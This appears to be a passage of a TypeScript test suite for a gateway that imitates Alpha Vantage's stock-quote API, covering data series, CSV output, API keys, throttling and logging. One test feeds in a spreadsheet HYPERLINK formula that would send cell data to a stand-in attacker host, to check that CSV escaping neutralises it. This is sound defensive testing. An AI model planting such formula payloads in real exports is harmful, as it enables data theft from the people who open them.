import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import alpha from 'alphavantage';
import { describe, expect, inject, it } from 'vitest';
import { register } from '../support/api.js';
import { testEngines } from '../support/engines.js';
import { startService } from '../support/service.js';
import { type Bar, IBM_BARS, providerEnv, type StandInPeriodBar, startUpstream } from '../support/upstream.js';

/** Alpha Vantage's answer for the seed's IBM (2022-07-29 after 2022-07-28), as its documentation shapes it. */
const IBM_GLOBAL_QUOTE = {
  'Global Quote': {
    '01. symbol': 'IBM',
    '02. open': '129.5200',
    '03. high': '131.0000',
    '04. low': '129.3100',
    '05. price': '130.7900',
    '06. volume': '4236283',
    '07. latest trading day': '2022-07-29',
    '08. previous close': '129.2200',
    '09. change': '1.5700',
    '10. change percent': '1.2150%',
  },
};

const IBM_DAILY = {
  'Meta Data': {
    '1. Information': 'Daily Prices (open, high, low, close) and Volumes',
    '2. Symbol': 'IBM',
    '3. Last Refreshed': '2022-07-29',
    '4. Output Size': 'Compact',
    '5. Time Zone': 'US/Eastern',
  },
  'Time Series (Daily)': {
    '2022-07-29': { '1. open': '129.5200', '2. high': '131.0000', '3. low': '129.3100', '4. close': '130.7900', '5. volume': '4236283' },
    '2022-07-28': { '1. open': '128.2000', '2. high': '129.5500', '3. low': '127.6600', '4. close': '129.2200', '5. volume': '3895133' },
    '2022-07-27': { '1. open': '128.0300', '2. high': '129.0100', '3. low': '127.3100', '4. close': '128.0800', '5. volume': '3544716' },
  },
};

const INVALID_KEY = { 'Error Message': 'the parameter apikey is invalid or missing. Register for a key of this service with POST /api/v1/register/.' };
const invalidCall = (name: string) => ({
  'Error Message': `Invalid API call. Please retry or visit the documentation (https://www.alphavantage.co/documentation/) for ${name}.`,
});

/** The seed's three IBM sessions, then `older` more, one a day before them. */
function ibmHistory(older: number): Bar[] {
  const day = (i: number) => new Date(Date.UTC(2022, 6, 26 - i)).toISOString().slice(0, 10);
  return [...IBM_BARS, ...Array.from({ length: older }, (_, i) => ({ date: day(i), open: '120.0000', high: '121.0000', low: '119.0000', close: `120.${String(i).padStart(2, '0')}00`, volume: 1000 + i }))];
}

/**
 * Five sessions over two weeks and two months (4 July 2022 was a holiday), newest first as a vendor gives
 * them, with a dividend of 0.5 going ex on 5 July. By hand: the week of 27 June is dated 1 July (open 10,
 * high 13, low 9, close 11.5, volume 600), the week of 4 July is dated 6 July (11.5, 15, 11, 14, 900); June
 * is dated 30 June (10, 13, 9, 12, 300), July 6 July (12, 15, 11, 14, 1200). Adjusted for the dividend,
 * closes before 5 July are × (1 − 0.5 / 11.5): 1 July's 11.5 is 11, 30 June's 12 is 11.478261 (6 decimals).
 */
const TWO_WEEKS: Bar[] = [
  { date: '2022-07-06', open: '13.7500', high: '15.0000', low: '13.0000', close: '14.0000', volume: 500 },
  { date: '2022-07-05', open: '11.5000', high: '14.0000', low: '11.0000', close: '13.7500', volume: 400 },
  { date: '2022-07-01', open: '12.0000', high: '12.5000', low: '11.0000', close: '11.5000', volume: 300 },
  { date: '2022-06-30', open: '11.0000', high: '13.0000', low: '10.0000', close: '12.0000', volume: 200 },
  { date: '2022-06-29', open: '10.0000', high: '12.0000', low: '9.0000', close: '11.0000', volume: 100 },
];
const bar = (open: string, high: string, low: string, close: string, volume: string) => ({ '1. open': open, '2. high': high, '3. low': low, '4. close': close, '5. volume': volume });
const adjustedBar = (open: string, high: string, low: string, close: string, adjusted: string, volume: string, dividend: string) => ({
  '1. open': open, '2. high': high, '3. low': low, '4. close': close, '5. adjusted close': adjusted, '6. volume': volume, '7. dividend amount': dividend,
});
const meta = (information: string) => ({ '1. Information': information, '2. Symbol': 'WK', '3. Last Refreshed': '2022-07-06', '4. Time Zone': 'US/Eastern' });
const WEEKLY = {
  'Meta Data': meta('Weekly Prices (open, high, low, close) and Volumes'),
  'Weekly Time Series': { '2022-07-06': bar('11.5000', '15.0000', '11.0000', '14.0000', '900'), '2022-07-01': bar('10.0000', '13.0000', '9.0000', '11.5000', '600') },
};
const MONTHLY = {
  'Meta Data': meta('Monthly Prices (open, high, low, close) and Volumes'),
  'Monthly Time Series': { '2022-07-06': bar('12.0000', '15.0000', '11.0000', '14.0000', '1200'), '2022-06-30': bar('10.0000', '13.0000', '9.0000', '12.0000', '300') },
};
const WEEKLY_ADJUSTED = {
  'Meta Data': meta('Weekly Adjusted Prices and Volumes'),
  'Weekly Adjusted Time Series': {
    '2022-07-06': adjustedBar('11.5000', '15.0000', '11.0000', '14.0000', '14.0000', '900', '0.5000'),
    '2022-07-01': adjustedBar('10.0000', '13.0000', '9.0000', '11.5000', '11.000000', '600', '0.0000'),
  },
};
const MONTHLY_ADJUSTED = {
  'Meta Data': meta('Monthly Adjusted Prices and Volumes'),
  'Monthly Adjusted Time Series': {
    '2022-07-06': adjustedBar('12.0000', '15.0000', '11.0000', '14.0000', '14.0000', '1200', '0.5000'),
    '2022-06-30': adjustedBar('10.0000', '13.0000', '9.0000', '12.0000', '11.478261', '300', '0.0000'),
  },
};

/**
 * Alpha Vantage's own weeks and months of a symbol whose daily bars are TWO_WEEKS (the oldest, 29 June 2022,
 * a Wednesday), newest first as it gives them. The week of 27 June and June itself hold sessions the store
 * lacks (27 and 28 June): Alpha Vantage's bars of them are whole, and they and the older ones are served as
 * it gave them. Its week of 4 July and its July are after the stored daily bars' first period: the daily
 * bars make those.
 */
const OLD_WEEKS: StandInPeriodBar[] = [
  { date: '2022-07-06', open: '11.5000', high: '15.0000', low: '11.0000', close: '14.0000', adjustedClose: '14.0000', volume: 900, dividend: '0.5000' },
  { date: '2022-07-01', open: '10.5000', high: '13.0000', low: '9.0000', close: '11.5000', adjustedClose: '11.0000', volume: 1000, dividend: '0.0000' },
  { date: '2022-06-24', open: '10.0000', high: '11.0000', low: '9.5000', close: '10.5000', adjustedClose: '10.0435', volume: 800, dividend: '0.2500' },
];
const OLD_MONTHS: StandInPeriodBar[] = [
  { date: '2022-07-06', open: '12.0000', high: '15.0000', low: '11.0000', close: '14.0000', adjustedClose: '14.0000', volume: 1200, dividend: '0.5000' },
  { date: '2022-06-30', open: '9.8000', high: '13.0000', low: '9.0000', close: '12.0000', adjustedClose: '11.4783', volume: 2100, dividend: '0.2500' },
  { date: '2022-05-31', open: '9.0000', high: '10.0000', low: '8.5000', close: '9.8000', adjustedClose: '9.1634', volume: 1900, dividend: '0.0000' },
];
const oldMeta = (information: string) => ({ '1. Information': information, '2. Symbol': 'OLD', '3. Last Refreshed': '2022-07-06', '4. Time Zone': 'US/Eastern' });
/** The week of 4 July made from the daily bars, as in WEEKLY_ADJUSTED; the older weeks Alpha Vantage's, as it gave them. */
const OLD_WEEKLY_ADJUSTED = {
  'Meta Data': oldMeta('Weekly Adjusted Prices and Volumes'),
  'Weekly Adjusted Time Series': {
    '2022-07-06': adjustedBar('11.5000', '15.0000', '11.0000', '14.0000', '14.0000', '900', '0.5000'),
    '2022-07-01': adjustedBar('10.5000', '13.0000', '9.0000', '11.5000', '11.0000', '1000', '0.0000'),
    '2022-06-24': adjustedBar('10.0000', '11.0000', '9.5000', '10.5000', '10.0435', '800', '0.2500'),
  },
};
const OLD_MONTHLY = {
  'Meta Data': oldMeta('Monthly Prices (open, high, low, close) and Volumes'),
  'Monthly Time Series': {
    '2022-07-06': bar('12.0000', '15.0000', '11.0000', '14.0000', '1200'),
    '2022-06-30': bar('9.8000', '13.0000', '9.0000', '12.0000', '2100'),
    '2022-05-31': bar('9.0000', '10.0000', '8.5000', '9.8000', '1900'),
  },
};

describe.each(testEngines())('the Alpha Vantage gateway on %s', (engine) => {
  async function setup(env: Record<string, string> = {}) {
    const upstream = await startUpstream();
    const logPath = join(inject('sqliteDir'), `gateway-${engine}-${Date.now()}-${Math.random().toString(36).slice(2)}.log`);
    const service = await startService(engine, { ...providerEnv(upstream), APICALLS_LOG: logPath, ...env });
    const key = await register(service.app);
    upstream.set('alphavantage', 'IBM', { kind: 'bars', bars: IBM_BARS });
    const query = (parameters: string, headers: Record<string, string> = {}) => service.app.inject({ method: 'GET', url: `/query?${parameters}`, headers });
    return { upstream, service, key, logPath, query };
  }

  it("when GLOBAL_QUOTE is asked for the seed's IBM, then Alpha Vantage's Global Quote, values as stored and the change in decimal", async () => {
    const { upstream, key, query } = await setup();
    const response = await query(`function=GLOBAL_QUOTE&symbol=ibm&apikey=${key}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    // Key for key, in Alpha Vantage's order.
    expect(response.body).toBe(JSON.stringify(IBM_GLOBAL_QUOTE));
    expect(response.headers['x-cache']).toBe('MISS');
    expect((await query(`function=GLOBAL_QUOTE&symbol=IBM&apikey=${key}`)).headers['x-cache']).toBe('HIT');
    expect(upstream.calls.alphavantage).toEqual(['IBM']);
  });

  it('when GLOBAL_QUOTE is asked as CSV, then its CSV header and one row', async () => {
    const { key, query } = await setup();
    const response = await query(`function=GLOBAL_QUOTE&symbol=IBM&datatype=csv&apikey=${key}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.body).toBe(
      'symbol,open,high,low,price,volume,latestDay,previousClose,change,changePercent\r\n' +
        'IBM,129.5200,131.0000,129.3100,130.7900,4236283,2022-07-29,129.2200,1.5700,1.2150%\r\n',
    );
  });

  it('when TIME_SERIES_DAILY is asked, then Meta Data and the series newest first, in JSON and in CSV', async () => {
    const { key, query } = await setup();
    const json = await query(`function=TIME_SERIES_DAILY&symbol=IBM&apikey=${key}`);
    expect(json.statusCode).toBe(200);
    expect(json.body).toBe(JSON.stringify(IBM_DAILY));
    const csv = await query(`function=TIME_SERIES_DAILY&symbol=IBM&datatype=csv&apikey=${key}`);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['x-cache']).toBe('HIT');
    expect(csv.body).toBe(
      'timestamp,open,high,low,close,volume\r\n' +
        '2022-07-29,129.5200,131.0000,129.3100,130.7900,4236283\r\n' +
        '2022-07-28,128.2000,129.5500,127.6600,129.2200,3895133\r\n' +
        '2022-07-27,128.0300,129.0100,127.3100,128.0800,3544716\r\n',
    );
  });

  it('when outputsize is compact or left out, then the latest 100 sessions; when full, every stored session', async () => {
    const { upstream, key, query } = await setup();
    const history = ibmHistory(147);
    // Twelve Data gives a first fetch its whole depth (Alpha Vantage's free compact series is 100 sessions).
    upstream.set('alphavantage', 'IBM', { kind: 'unknown' });
    upstream.set('twelvedata', 'IBM', { kind: 'bars', bars: history });
    const datesOf = (body: string) => Object.keys(JSON.parse(body)['Time Series (Daily)']);
    for (const parameters of ['', '&outputsize=compact', '&outputsize=whatever']) {
      const compact = await query(`function=TIME_SERIES_DAILY&symbol=IBM${parameters}&apikey=${key}`);
      expect(compact.json()['Meta Data']['4. Output Size']).toBe('Compact');
      expect(datesOf(compact.body)).toEqual(history.slice(0, 100).map((bar) => bar.date));
    }
    const full = await query(`function=TIME_SERIES_DAILY&symbol=IBM&outputsize=full&apikey=${key}`);
    expect(full.json()['Meta Data']['4. Output Size']).toBe('Full size');
    expect(datesOf(full.body)).toEqual(history.map((bar) => bar.date));
    const fullCsv = await query(`function=TIME_SERIES_DAILY&symbol=IBM&outputsize=full&datatype=csv&apikey=${key}`);
    expect(fullCsv.body.split('\r\n').filter(Boolean)).toHaveLength(1 + 150);
  });

  it('when the key travels in a header instead, or unknown parameters come along, then the answer is the same', async () => {
    const { key, query } = await setup();
    const headerForms: Record<string, string>[] = [{ 'x-api-key': key }, { authorization: `Token ${key}` }, { authorization: `Bearer ${key}` }];
    for (const headers of headerForms) {
      expect((await query('function=GLOBAL_QUOTE&symbol=IBM', headers)).body).toBe(JSON.stringify(IBM_GLOBAL_QUOTE));
    }
    // The published client sends outputsize and datatype to GLOBAL_QUOTE too; Alpha Vantage ignores what a function does not take.
    const extra = await query(`apikey=${key}&symbol=IBM&outputsize=compact&datatype=json&interval=1min&x=%00&function=GLOBAL_QUOTE`);
    expect(extra.body).toBe(JSON.stringify(IBM_GLOBAL_QUOTE));
  });

  it.each([
    ['an unknown symbol', 'function=TIME_SERIES_DAILY&symbol=NOPE', invalidCall('TIME_SERIES_DAILY')],
    ['an unknown symbol, for a quote', 'function=GLOBAL_QUOTE&symbol=NOPE', invalidCall('GLOBAL_QUOTE')],
    ['an invalid symbol', 'function=GLOBAL_QUOTE&symbol=IB%20M', invalidCall('GLOBAL_QUOTE')],
    ['no symbol', 'function=TIME_SERIES_DAILY', invalidCall('TIME_SERIES_DAILY')],
    ['an empty symbol', 'function=GLOBAL_QUOTE&symbol=', invalidCall('GLOBAL_QUOTE')],
    ['an unknown function', 'function=TIME_SERIES_HOURLY&symbol=IBM', { 'Error Message': 'This API function (TIME_SERIES_HOURLY) does not exist.' }],
    ['no function', 'symbol=IBM', { 'Error Message': 'This API function () does not exist.' }],
    ['a function named like an object property', 'function=__proto__&symbol=IBM', { 'Error Message': 'This API function (__proto__) does not exist.' }],
    ['no keywords, for a search', 'function=SYMBOL_SEARCH', invalidCall('SYMBOL_SEARCH')],
    ['keywords with a control character', 'function=SYMBOL_SEARCH&keywords=ib%01m', invalidCall('SYMBOL_SEARCH')],
    ['an unknown symbol, adjusted', 'function=TIME_SERIES_DAILY_ADJUSTED&symbol=NOPE', invalidCall('TIME_SERIES_DAILY_ADJUSTED')],
  ])('when a call has %s, then HTTP 200 with Alpha Vantage\'s "Error Message"', async (_, parameters, expected) => {
    const { upstream, key, query } = await setup();
    upstream.set('alphavantage', 'NOPE', { kind: 'unknown' });
    upstream.set('twelvedata', 'NOPE', { kind: 'unknown' });
    for (const datatype of ['', '&datatype=csv']) {
      const response = await query(`${parameters}${datatype}&apikey=${key}`);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toMatch(/^application\/json/); // errors are JSON even when CSV was asked, as Alpha Vantage's are
      expect(response.json()).toStrictEqual(expected);
      expect(response.headers['x-cache']).toBeUndefined();
    }
  });

  it.each([
    ['no apikey', 'function=GLOBAL_QUOTE&symbol=IBM'],
    ['an empty apikey', 'function=GLOBAL_QUOTE&symbol=IBM&apikey='],
    ['an unknown apikey', 'function=GLOBAL_QUOTE&symbol=IBM&apikey=0123456789abcdef0123456789abcdef01234567'],
    ['an Alpha Vantage demo key', 'function=GLOBAL_QUOTE&symbol=IBM&apikey=demo'],
    ['no apikey and no function', ''],
  ])('when a call has %s, then HTTP 200 with the "Error Message" Alpha Vantage gives a bad key, and no provider is asked', async (_, parameters) => {
    const { upstream, query } = await setup();
    const response = await query(parameters);
    expect(response.statusCode).toBe(200);
    expect(response.json()).toStrictEqual(INVALID_KEY);
    expect(response.headers['www-authenticate']).toBeUndefined();
    expect(upstream.calls.alphavantage).toEqual([]);
  });

  it("when the key's allowance is spent, shared with the rest of the API, then HTTP 200 with Alpha Vantage's \"Information\", Retry-After and RateLimit kept", async () => {
    const { service, key, query } = await setup({ THROTTLE_USER: '3/day' });
    expect((await query(`function=GLOBAL_QUOTE&symbol=IBM&apikey=${key}`)).headers.ratelimit).toBe('"user";r=2;t=86400');
    expect((await service.app.inject({ method: 'GET', url: '/api/v1/symbol/IBM/', headers: { 'x-api-key': key } })).statusCode).toBe(200);
    expect((await query(`function=TIME_SERIES_DAILY&symbol=IBM&apikey=${key}`)).statusCode).toBe(200);
    const refused = await query(`function=GLOBAL_QUOTE&symbol=IBM&apikey=${key}`);
    expect(refused.statusCode).toBe(200);
    expect(refused.json()).toStrictEqual({ Information: 'Request was throttled. Expected available in 86400 seconds.' });
    expect(refused.headers['retry-after']).toBe('86400');
    expect(refused.headers['ratelimit-policy']).toBe('"user";q=3;w=86400');
    expect(refused.headers.ratelimit).toBe('"user";r=0;t=86400');
    // The rest of the API sees the same count.
    expect((await service.app.inject({ method: 'GET', url: '/api/v1/symbol/IBM/', headers: { 'x-api-key': key } })).statusCode).toBe(429);
  });

  it('when calls come without a valid key, then they spend the address\'s anonymous allowance, and past it "Information"', async () => {
    const { query } = await setup({ THROTTLE_ANON: '3/day' }); // registering spent one
    expect((await query('function=GLOBAL_QUOTE&symbol=IBM')).json()).toStrictEqual(INVALID_KEY);
    expect((await query('function=GLOBAL_QUOTE&symbol=IBM&apikey=wrong')).json()).toStrictEqual(INVALID_KEY);
    const refused = await query('function=GLOBAL_QUOTE&symbol=IBM&apikey=wrong');
    expect(refused.statusCode).toBe(200);
    expect(refused.json()).toStrictEqual({ Information: 'Request was throttled. Expected available in 86400 seconds.' });
    expect(refused.headers['retry-after']).toBe('86400');
  });

  it('when every provider is rate limited or broken and nothing is stored, then HTTP 200 with "Information" (Retry-After when known), as Alpha Vantage says "try later"', async () => {
    const { upstream, key, query } = await setup();
    upstream.set('alphavantage', 'AAPL', { kind: 'http_500' });
    upstream.set('twelvedata', 'AAPL', { kind: 'malformed_json' });
    const broken = await query(`function=TIME_SERIES_DAILY&symbol=AAPL&apikey=${key}`);
    expect(broken.statusCode).toBe(200);
    expect(broken.json()).toStrictEqual({ Information: 'Market data providers are unavailable; try again later.' });
    expect(broken.headers['retry-after']).toBeUndefined();

    // (A vendor's rate limit marks its quota spent: asked after the broken call, so each says its own.)
    upstream.set('alphavantage', 'MSFT', { kind: 'rate_limited' });
    upstream.set('twelvedata', 'MSFT', { kind: 'rate_limited' });
    const limited = await query(`function=GLOBAL_QUOTE&symbol=MSFT&apikey=${key}`);
    expect(limited.statusCode).toBe(200);
    expect(limited.json()).toStrictEqual({ Information: 'Market data providers are rate limited; try again later.' });
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
  });

  it('when SYMBOL_SEARCH is asked, then bestMatches in its nine numbered keys, JSON and CSV, from the search cache', async () => {
    const { upstream, key, query } = await setup();
    upstream.setFor('alphavantage', 'search', 'intern', {
      kind: 'matches',
      matches: [
        { symbol: 'IBM', name: 'International Business Machines Corp', type: 'Equity', region: 'United States', marketOpen: '09:30', marketClose: '16:00', timezone: 'UTC-04', currency: 'USD', matchScore: '0.6667' },
        { symbol: 'IBMD', name: 'iShares iBonds Dec 2026 Term, Muni Bond ETF', type: 'ETF', region: 'United States', marketOpen: '09:30', marketClose: '16:00', timezone: 'UTC-04', currency: 'USD', matchScore: '0.5000' },
      ],
    });
    const response = await query(`function=SYMBOL_SEARCH&keywords=intern&apikey=${key}`);
    expect(response.body).toBe(
      JSON.stringify({
        bestMatches: [
          { '1. symbol': 'IBM', '2. name': 'International Business Machines Corp', '3. type': 'Equity', '4. region': 'United States', '5. marketOpen': '09:30', '6. marketClose': '16:00', '7. timezone': 'UTC-04', '8. currency': 'USD', '9. matchScore': '0.6667' },
          { '1. symbol': 'IBMD', '2. name': 'iShares iBonds Dec 2026 Term, Muni Bond ETF', '3. type': 'ETF', '4. region': 'United States', '5. marketOpen': '09:30', '6. marketClose': '16:00', '7. timezone': 'UTC-04', '8. currency': 'USD', '9. matchScore': '0.5000' },
        ],
      }),
    );
    expect(response.headers['x-cache']).toBe('MISS');
    const csvAnswer = await query(`function=SYMBOL_SEARCH&keywords=INTERN&datatype=csv&apikey=${key}`);
    expect(csvAnswer.headers['x-cache']).toBe('HIT');
    expect(csvAnswer.body).toBe(
      'symbol,name,type,region,marketOpen,marketClose,timezone,currency,matchScore\r\n' +
        'IBM,International Business Machines Corp,Equity,United States,09:30,16:00,UTC-04,USD,0.6667\r\n' +
        'IBMD,"iShares iBonds Dec 2026 Term, Muni Bond ETF",ETF,United States,09:30,16:00,UTC-04,USD,0.5000\r\n',
    );
    expect(upstream.capabilityCalls.alphavantage.search).toEqual(['intern']);
  });

  it("when weekly and monthly series are asked, adjusted or not, and Alpha Vantage has no series of its own for the symbol, then they are made from the stored daily bars, as computed by hand", async () => {
    const { upstream, key, query } = await setup();
    upstream.set('alphavantage', 'WK', { kind: 'bars', bars: TWO_WEEKS });
    upstream.setFor('alphavantage', 'splits', 'WK', { kind: 'splits', splits: [] });
    upstream.setFor('alphavantage', 'dividends', 'WK', { kind: 'dividends', dividends: [{ exDate: '2022-07-05', amount: '0.5' }] });
    const expected = { TIME_SERIES_WEEKLY: WEEKLY, TIME_SERIES_MONTHLY: MONTHLY, TIME_SERIES_WEEKLY_ADJUSTED: WEEKLY_ADJUSTED, TIME_SERIES_MONTHLY_ADJUSTED: MONTHLY_ADJUSTED };
    for (const [name, answer] of Object.entries(expected)) {
      const response = await query(`function=${name}&symbol=WK&apikey=${key}`);
      expect(response.body, name).toBe(JSON.stringify(answer));
    }
    const csvAnswer = await query(`function=TIME_SERIES_MONTHLY_ADJUSTED&symbol=WK&datatype=csv&apikey=${key}`);
    expect(csvAnswer.body).toBe(
      'timestamp,open,high,low,close,adjusted_close,volume,dividend_amount\r\n' +
        '2022-07-06,12.0000,15.0000,11.0000,14.0000,14.0000,1200,0.5000\r\n' +
        '2022-06-30,10.0000,13.0000,9.0000,12.0000,11.478261,300,0.0000\r\n',
    );
    // One daily series, one pair of actions, and one ask of Alpha Vantage's weekly and monthly series (it knew neither), whatever was asked of them.
    expect(upstream.calls.alphavantage).toEqual(['WK']);
    expect(upstream.capabilityCalls.alphavantage).toMatchObject({ splits: ['WK'], dividends: ['WK'], weekly: ['WK'], monthly: ['WK'] });
  });

  it("when the stored daily bars start mid-week, then that week and the older ones are Alpha Vantage's own weekly bars as it gave them, the later ones made from the daily bars; one call per series, then none", async () => {
    const { upstream, key, query } = await setup();
    upstream.set('alphavantage', 'OLD', { kind: 'bars', bars: TWO_WEEKS });
    upstream.setFor('alphavantage', 'splits', 'OLD', { kind: 'splits', splits: [] });
    upstream.setFor('alphavantage', 'dividends', 'OLD', { kind: 'dividends', dividends: [{ exDate: '2022-07-05', amount: '0.5' }] });
    upstream.setFor('alphavantage', 'weekly', 'OLD', { kind: 'periods', bars: OLD_WEEKS });
    upstream.setFor('alphavantage', 'monthly', 'OLD', { kind: 'periods', bars: OLD_MONTHS });

    const weekly = await query(`function=TIME_SERIES_WEEKLY_ADJUSTED&symbol=OLD&apikey=${key}`);
    expect(weekly.body).toBe(JSON.stringify(OLD_WEEKLY_ADJUSTED));
    expect(weekly.headers['x-cache']).toBe('MISS');
    const monthly = await query(`function=TIME_SERIES_MONTHLY&symbol=OLD&apikey=${key}`);
    expect(monthly.body).toBe(JSON.stringify(OLD_MONTHLY));
    const csvAnswer = await query(`function=TIME_SERIES_WEEKLY&symbol=OLD&datatype=csv&apikey=${key}`);
    expect(csvAnswer.headers['x-cache']).toBe('HIT');
    expect(csvAnswer.body).toBe(
      'timestamp,open,high,low,close,volume\r\n' +
        '2022-07-06,11.5000,15.0000,11.0000,14.0000,900\r\n' +
        '2022-07-01,10.5000,13.0000,9.0000,11.5000,1000\r\n' +
        '2022-06-24,10.0000,11.0000,9.5000,10.5000,800\r\n',
    );
    expect(upstream.capabilityCalls.alphavantage).toMatchObject({ weekly: ['OLD'], monthly: ['OLD'] });
  });

  it('when a vendor names a match like a spreadsheet formula, then the CSV serves it inert, quoted and prefixed with an apostrophe; the JSON as given', async () => {
    const { upstream, key, query } = await setup();
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const match = { symbol: 'EVL', name, type: '+Equity', region: '@Region', marketOpen: '09:30', marketClose: '16:00', timezone: ' -tz', currency: 'USD', matchScore: '1.0000' };
    upstream.setFor('alphavantage', 'search', 'evil', { kind: 'matches', matches: [match] });
    const csvAnswer = await query(`function=SYMBOL_SEARCH&keywords=evil&datatype=csv&apikey=${key}`);
    expect(csvAnswer.body).toBe(
      'symbol,name,type,region,marketOpen,marketClose,timezone,currency,matchScore\r\n' +
        `EVL,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'+Equity,'@Region,09:30,16:00,' -tz,USD,1.0000\r\n`,
    );
    const json = await query(`function=SYMBOL_SEARCH&keywords=evil&apikey=${key}`);
    expect(json.json().bestMatches[0]['2. name']).toBe(name);
    // Numbers are not text: a negative change stays a number.
    upstream.set('alphavantage', 'DOWN', { kind: 'bars', bars: [{ ...IBM_BARS[0]!, close: '129.3100' }, { ...IBM_BARS[1]!, close: '129.5000' }] });
    const quote = await query(`function=GLOBAL_QUOTE&symbol=DOWN&datatype=csv&apikey=${key}`);
    expect(quote.body.split('\r\n')[1]).toBe('DOWN,129.5200,131.0000,129.3100,129.3100,4236283,2022-07-29,129.5000,-0.1900,-0.1467%');
  });

  it('when TIME_SERIES_DAILY_ADJUSTED is asked, then the series as traded with the adjusted close, the dividend and the split coefficient of each day', async () => {
    const { upstream, key, query } = await setup();
    upstream.setFor('alphavantage', 'splits', 'IBM', { kind: 'splits', splits: [{ date: '2022-07-29', newShares: 2, oldShares: 1 }] });
    upstream.setFor('alphavantage', 'dividends', 'IBM', { kind: 'dividends', dividends: [{ exDate: '2022-07-28', amount: '1.2808' }] });
    const response = await query(`function=TIME_SERIES_DAILY_ADJUSTED&symbol=IBM&apikey=${key}`);
    expect(response.body).toBe(
      JSON.stringify({
        'Meta Data': {
          '1. Information': 'Daily Time Series with Splits and Dividend Events',
          '2. Symbol': 'IBM',
          '3. Last Refreshed': '2022-07-29',
          '4. Output Size': 'Compact',
          '5. Time Zone': 'US/Eastern',
        },
        'Time Series (Daily)': {
          '2022-07-29': { '1. open': '129.5200', '2. high': '131.0000', '3. low': '129.3100', '4. close': '130.7900', '5. adjusted close': '130.7900', '6. volume': '4236283', '7. dividend amount': '0.0000', '8. split coefficient': '2.0' },
          '2022-07-28': { '1. open': '128.2000', '2. high': '129.5500', '3. low': '127.6600', '4. close': '129.2200', '5. adjusted close': '64.610000', '6. volume': '3895133', '7. dividend amount': '1.2808', '8. split coefficient': '1.0' },
          '2022-07-27': { '1. open': '128.0300', '2. high': '129.0100', '3. low': '127.3100', '4. close': '128.0800', '5. adjusted close': '63.399600', '6. volume': '3544716', '7. dividend amount': '0.0000', '8. split coefficient': '1.0' },
        },
      }),
    );
    const csvAnswer = await query(`function=TIME_SERIES_DAILY_ADJUSTED&symbol=IBM&datatype=csv&apikey=${key}`);
    expect(csvAnswer.body.split('\r\n').slice(0, 3)).toEqual([
      'timestamp,open,high,low,close,adjusted_close,volume,dividend_amount,split_coefficient',
      '2022-07-29,129.5200,131.0000,129.3100,130.7900,130.7900,4236283,0.0000,2.0',
      '2022-07-28,128.2000,129.5500,127.6600,129.2200,64.610000,3895133,1.2808,1.0',
    ]);
  });

  it('when another method is used, then 405 with Allow, as on every route', async () => {
    const { key, service } = await setup();
    const response = await service.app.inject({ method: 'POST', url: `/query?function=GLOBAL_QUOTE&symbol=IBM&apikey=${key}` });
    expect(response.statusCode).toBe(405);
    expect(response.headers.allow).toBe('GET');
  });

  it('when the gateway is called, then apicalls.log has one line per call with the user, and never the query string or the key', async () => {
    const { service, key, logPath, query } = await setup();
    await query(`function=GLOBAL_QUOTE&symbol=IBM&apikey=${key}`);
    await query(`function=TIME_SERIES_DAILY&symbol=IBM&datatype=csv&apikey=${key}`);
    await query('function=GLOBAL_QUOTE&symbol=IBM&apikey=wrong-key-value');
    await service.app.inject({ method: 'GET', url: `/%71uery?function=GLOBAL_QUOTE&symbol=IBM&apikey=${key}` });
    await service.close(); // flushes

    const text = readFileSync(logPath, 'utf8');
    const lines = text.split('\n').filter(Boolean).map((line) => line.replace(/^\[\d{2}\/[A-Z][a-z]{2}\/\d{4} \d{2}:\d{2}:\d{2}\] \[INFO\] \[API_REQUEST\] /, ''));
    expect(lines).toEqual([
      'POST /api/v1/register/ AnonymousUser',
      'GET /query dave@example.com',
      'GET /query dave@example.com',
      'GET /query AnonymousUser',
      'GET /%71uery dave@example.com',
    ]);
    expect(text).not.toContain(key);
    expect(text).not.toContain('apikey');
    expect(text).not.toContain('wrong-key-value');
  });

  it('when the OpenAPI document is built, then it lists the gateway', async () => {
    const { service } = await setup();
    const paths = (await service.app.inject({ method: 'GET', url: '/openapi.json' })).json().paths as Record<string, Record<string, unknown>>;
    expect(Object.keys(paths['/query'] ?? {})).toEqual(['get']);
  });
});

describe.each(testEngines())('the published Alpha Vantage client (alphavantage 2.5.0) on %s', (engine) => {
  it('when only its base URL is changed, then quote, daily, weekly, monthly and their CSV work, and an unknown symbol throws', async () => {
    const upstream = await startUpstream();
    upstream.set('alphavantage', 'IBM', { kind: 'bars', bars: IBM_BARS });
    upstream.set('alphavantage', 'NOPE', { kind: 'unknown' });
    upstream.set('twelvedata', 'NOPE', { kind: 'unknown' });
    upstream.setFor('alphavantage', 'search', 'intern', { kind: 'matches', matches: [{ symbol: 'IBM', name: 'International Business Machines Corp' }] });
    upstream.set('alphavantage', 'OLD', { kind: 'bars', bars: TWO_WEEKS });
    upstream.setFor('alphavantage', 'weekly', 'OLD', { kind: 'periods', bars: OLD_WEEKS });
    upstream.setFor('alphavantage', 'monthly', 'OLD', { kind: 'periods', bars: OLD_MONTHS });
    // Every call here is a new symbol's or a new series' (a lookup): this test is about the client, not the fair share.
    const service = await startService(engine, { ...providerEnv(upstream), UPSTREAM_FAIR_SHARE: '1' });
    const key = await register(service.app);
    await service.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = service.app.server.address() as AddressInfo;

    // The client keeps its base URL in the config object it was given (`config.base + params`); it has no other setting for it.
    const config: { key: string; base?: string } = { key };
    const av = alpha(config);
    config.base = `http://127.0.0.1:${port}/query?apikey=${key}&`;

    expect(await av.data.quote('IBM')).toStrictEqual(IBM_GLOBAL_QUOTE);
    expect(await av.data.daily('IBM')).toStrictEqual(IBM_DAILY);
    const rows = await av.data.daily<Record<string, string>[]>('IBM', 'compact', 'csv');
    expect(rows.slice(0, 3)).toStrictEqual([
      { timestamp: '2022-07-29', open: '129.5200', high: '131.0000', low: '129.3100', close: '130.7900', volume: '4236283' },
      { timestamp: '2022-07-28', open: '128.2000', high: '129.5500', low: '127.6600', close: '129.2200', volume: '3895133' },
